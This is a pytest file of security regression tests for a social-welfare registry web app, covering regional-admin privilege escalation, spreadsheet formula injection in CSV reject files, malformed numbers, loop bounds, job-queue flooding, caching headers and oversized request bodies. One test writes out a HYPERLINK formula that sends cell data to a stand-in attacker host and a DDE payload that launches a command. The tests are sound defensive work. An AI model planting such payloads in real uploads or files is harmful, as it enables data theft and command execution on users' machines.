"""Attacks on what issue 15 built, each reproduced as it was found (the attacker's brief), on
SQLite and PostgreSQL where a database is involved: each test fails on the code before its fix."""

from __future__ import annotations

import csv
import re
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from fastapi.responses import FileResponse, Response
from fastapi.testclient import TestClient
from sqlalchemy.engine import Engine
from sqlalchemy.orm import Session
from starlette.requests import Request

from api_helpers import make_api, problem_of
from conftest import user
from factories import family, kk, write_batch
from helpers import run_import
from lumbung.api.limits import DEFAULT_LIMIT
from lumbung.auth import credentials, service, tokens
from lumbung.auth.models import User
from lumbung.auth.roles import Role
from lumbung.config import Settings
from lumbung.db import session_scope
from lumbung.errors import PermissionDenied
from lumbung.jobs import service as jobs
from lumbung.jobs.queue import JobQueue
from lumbung.web.registry import MOST_MEMBERS
from web_helpers import client, csrf_of, give_passwords, make_app, sign_in

PASSWORD = "Rahasia-Kuat-2026"
NEW = "Sandi-Baru-Yang-Kuat-77"


# --- a regional admin managing users outside their region ---------------------------------


@pytest.fixture
def regional_admin(engine: Engine, users: dict[str, str]) -> str:
    """`admin-jakpus`: an admin of Kota Jakarta Pusat (31.71)."""
    with session_scope(engine) as session:
        service.create_user(
            session,
            actor=user(session, "admin"),
            username="admin-jakpus",
            full_name="Admin Jakarta Pusat",
            role=Role.ADMIN,
            region_code="31.71",
        )
    return "admin-jakpus"


def test_a_regional_admin_cannot_take_over_a_national_admin(
    engine: Engine, regional_admin: str
) -> None:
    """Attack: an admin of one regency sets the national admin's password (then signs in as
    them: the whole nation), issues a token for them, deactivates them, or makes a new national
    admin. Each is refused; what lies inside the region stays theirs to manage."""
    attempts: dict[str, Callable[[Session, User], object]] = {
        "set_password": lambda s, a: credentials.set_password(
            s, actor=a, username="admin", new=PASSWORD
        ),
        "token": lambda s, a: tokens.issue(s, actor=a, username="determiner", name="x"),
        "deactivate": lambda s, a: service.set_active(
            s, actor=a, username="other_verifier", active=False, reason="x"
        ),
        "create national": lambda s, a: service.create_user(
            s, actor=a, username="root2", full_name="r", role=Role.ADMIN, region_code=None
        ),
        "create elsewhere": lambda s, a: service.create_user(
            s, actor=a, username="op2", full_name="o", role=Role.OPERATOR, region_code="32.73"
        ),
    }
    for what, attack in attempts.items():
        with session_scope(engine) as session:
            with pytest.raises(PermissionDenied, match="di luar kewenangannya"):
                attack(session, user(session, regional_admin))
            session.rollback()
        assert what
    with session_scope(engine) as session:
        actor = user(session, regional_admin)
        credentials.set_password(session, actor=actor, username="operator", new=PASSWORD)
        raw, _token = tokens.issue(session, actor=actor, username="verifier", name="dinsos")
        assert raw.startswith("lmb_")
        # Its token list holds the tokens of its region's users only.
        tokens.issue(session, actor=user(session, "admin"), username="determiner", name="pusat")
        listed = {t.username for t in tokens.list_tokens(session, actor)}
        assert listed == {"verifier"}


# --- a reject file that runs formulas in a spreadsheet -------------------------------------


def test_a_reject_file_never_holds_a_formula(
    engine: Engine, users: dict[str, str], tmp_path: Path
) -> None:
    """Attack: an uploaded KK or NIK `=HYPERLINK("http://evil/?"&A1,"klik")` is invalid, so it
    is repeated in the reject file, which the operator opens in Excel: the cell would run. It is
    written with a leading apostrophe (text); a valid KK beside it is untouched."""
    household, members = family(1)
    households = [household]
    formula = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
    members[0]["nik"] = formula
    households.append(dict(households[0], kk_number="@SUM(1+1)*cmd|' /C calc'!A0"))
    paths = write_batch(tmp_path / "b", households, members)
    summary = run_import(engine, paths, actor="operator")
    assert summary.reject_file
    with open(summary.reject_file, encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    cells = [value for row in rows for value in row.values() if value]
    assert not [c for c in cells if c[0] in "=+-@\t\r"], cells
    assert "'" + formula in {row["nik"] for row in rows}
    assert any(row["kk_number"] == kk(1) for row in rows)


# --- web pages: numbers from the query string and the form --------------------------------


@pytest.fixture
def web(engine: Engine, users: dict[str, str], tmp_path: Path) -> Iterator[TestClient]:
    give_passwords(engine, "operator", "admin", "auditor")
    with client(make_app(engine, tmp_path / "data")) as browser:
        yield browser


def test_a_number_no_int_reads_is_no_server_error(web: TestClient) -> None:
    """Attack: `?offset=²` (a digit to str.isdigit, not to int) gave a 500 without a single
    security header; a huge offset or member count too. Each is answered as a page."""
    assert sign_in(web, "auditor") == "/"
    for path in (
        "/audit?offset=²",
        "/audit?offset=٣",
        "/keluarga?q=budi&offset=²",
        "/audit?offset=99999999999999999999999999",
    ):
        answer = web.get(path)
        assert answer.status_code == 200, (path, answer.text[:300])
        assert answer.headers["cache-control"] == "no-store"


def test_a_member_count_cannot_make_a_page_loop_for_ever(web: TestClient) -> None:
    """Attack: `/usulan/baru/new_family?anggota=200000000` rendered 200 million member forms
    (the server thread, and on SQLite the writer lock, held for minutes); the form's own
    `member_count` bounded the loop reading it. Both are bounded."""
    assert sign_in(web, "operator") == "/"
    page = web.get("/usulan/baru/new_family?anggota=200000000")
    assert page.status_code == 200
    assert page.text.count('name="m0.nik"') == 1
    assert len(set(re.findall(r'name="m(\d+)\.nik"', page.text))) == MOST_MEMBERS
    sent = web.post(
        "/usulan/baru/new_family",
        data={"csrf": csrf_of(page.text), "member_count": "200000000", "version": "x²"},
    )
    assert sent.status_code == 422, sent.text[:300]


def test_an_unexpected_error_still_carries_the_security_headers(
    engine: Engine, tmp_path: Path
) -> None:
    """The 500 answer comes from Starlette's outermost middleware, outside SecurityHeaders."""
    app = make_app(engine, tmp_path / "data")

    def broken() -> None:
        raise RuntimeError("SELECT secret FROM /etc/passwd")

    app.add_api_route("/api/v1/broken", broken)
    with TestClient(app, raise_server_exceptions=False) as browser:
        answer = browser.get("/api/v1/broken")
    assert answer.status_code == 500
    assert "secret" not in answer.text and "passwd" not in answer.text
    assert answer.headers["content-security-policy"].startswith("default-src 'self'")
    assert answer.headers["x-frame-options"] == "DENY"
    assert answer.headers["cache-control"] == "no-store"


# --- jobs: one user filling the queue -------------------------------------------------------


def test_one_user_cannot_fill_the_queue(
    engine: Engine, users: dict[str, str], tmp_path: Path
) -> None:
    """Attack: a script submits jobs in a loop (each import also keeps its uploads). Past
    MAX_OPEN_PER_USER jobs waiting or running, the next is refused with a time to retry
    (429 on the API); another user is not held back."""
    settings = Settings(
        database_url=engine.url.render_as_string(hide_password=False), data_dir=tmp_path / "d"
    )
    queue = JobQueue(settings, engine=engine)  # no worker: every job stays queued
    queue.huey.flush()
    for n in range(jobs.MAX_OPEN_PER_USER):
        with session_scope(engine) as session:
            jobs.submit(
                session,
                user(session, "determiner"),
                kind="release",
                params={"label": f"r{n}"},
                channel="api",
                queue=queue,
            )
    with session_scope(engine) as session:
        with pytest.raises(jobs.TooManyJobs, match="batas 10") as refused:
            jobs.submit(
                session,
                user(session, "determiner"),
                kind="release",
                params={"label": "one-more"},
                channel="api",
                queue=queue,
            )
        assert refused.value.retry_after == 60
        session.rollback()
    with session_scope(engine) as session:
        jobs.submit(
            session,
            user(session, "approver"),
            kind="release",
            params={"label": "theirs"},
            channel="api",
            queue=queue,
        )
    queue.huey.flush()


def test_a_download_is_not_kept_by_a_cache_but_the_stylesheet_is(
    engine: Engine, tmp_path: Path
) -> None:
    """A reject file (NIKs, names) came without Cache-Control: a shared browser or a proxy
    could keep it. Every response but /static is no-store."""
    app = make_app(engine, tmp_path / "data")
    rejects = tmp_path / "rejects.csv"
    rejects.write_text("nik\n3171011203800011\n", encoding="utf-8")

    def download(_request: Request) -> Response:
        return FileResponse(rejects, filename="rejects.csv", media_type="text/csv")

    app.add_route("/pekerjaan/x/tolakan-uji", download)
    with TestClient(app) as browser:
        assert browser.get("/pekerjaan/x/tolakan-uji").headers["cache-control"] == "no-store"
        assert browser.get("/masuk").headers["cache-control"] == "no-store"
        static = browser.get("/static/lumbung.css")
        assert static.status_code == 200
        assert "no-store" not in static.headers.get("cache-control", "")


def test_a_forced_password_change_keeps_the_session_that_made_it(
    engine: Engine, web: TestClient
) -> None:
    """A user made to change their password did so on /masuk/sandi and was then signed out
    (every session ended, theirs too); a wrong old password counts towards the lock."""
    with session_scope(engine) as session:
        credentials.set_password(
            session, actor=user(session, "admin"), username="operator", new=PASSWORD
        )
    assert sign_in(web, "operator", PASSWORD) == "/masuk/sandi"
    form = web.get("/masuk/sandi")
    assert form.status_code == 200
    assert web.get("/").headers["location"] == "/masuk/sandi"  # nothing else before it
    wrong = web.post(
        "/masuk/sandi",
        data={"csrf": csrf_of(form.text), "old": "salah", "new": NEW, "again": NEW},
    )
    assert wrong.status_code == 422, wrong.text[:300]
    with session_scope(engine) as session:
        assert user(session, "operator").failed_sign_ins == 1
    done = web.post(
        "/masuk/sandi",
        data={"csrf": csrf_of(form.text), "old": PASSWORD, "new": NEW, "again": NEW},
    )
    assert done.status_code == 303
    home = web.get(done.headers["location"])
    assert home.status_code == 200, home.headers.get("location")


def test_a_body_too_large_is_refused_before_it_is_read(
    engine: Engine, users: dict[str, str], tmp_path: Path, web: TestClient
) -> None:
    """Attack: a request body of any size was read (a form parsed, a file spooled to disk)
    before any endpoint looked at it. Past 1 MiB (an upload: past two files' limit) it is a
    413, as problem+json on the API and as a page on the web, whether its size is declared or
    it comes in chunks; a body within the limit still works."""
    api = make_api(engine, tmp_path / "api-data", ["operator"])
    big = b'{"reason": "' + b"x" * (DEFAULT_LIMIT + 10) + b'"}'
    headers = {**api.auth("operator"), "Content-Type": "application/json"}
    declared = api.client.post("/api/v1/requests/1/reject", content=big, headers=headers)
    problem_of(declared, 413, "error")
    assert "1.048.576" in declared.json()["detail"]

    def chunks() -> Iterator[bytes]:
        for _ in range(20):
            yield b"x" * 100_000

    chunked = api.client.post("/api/v1/requests/1/reject", content=chunks(), headers=headers)
    problem_of(chunked, 413, "error")
    small = api.post("operator", "/requests/1/reject", json={"reason": "bukan keluarga ini"})
    assert small.status_code in (403, 404), small.text  # read and answered on its merits

    assert sign_in(web, "operator") == "/"
    page = web.post("/usulan/baru/update", data={"csrf": "x", "kk": "y" * (DEFAULT_LIMIT + 1)})
    assert page.status_code == 413
    assert page.headers["content-type"].startswith("text/html")
    assert "terlalu besar" in page.text
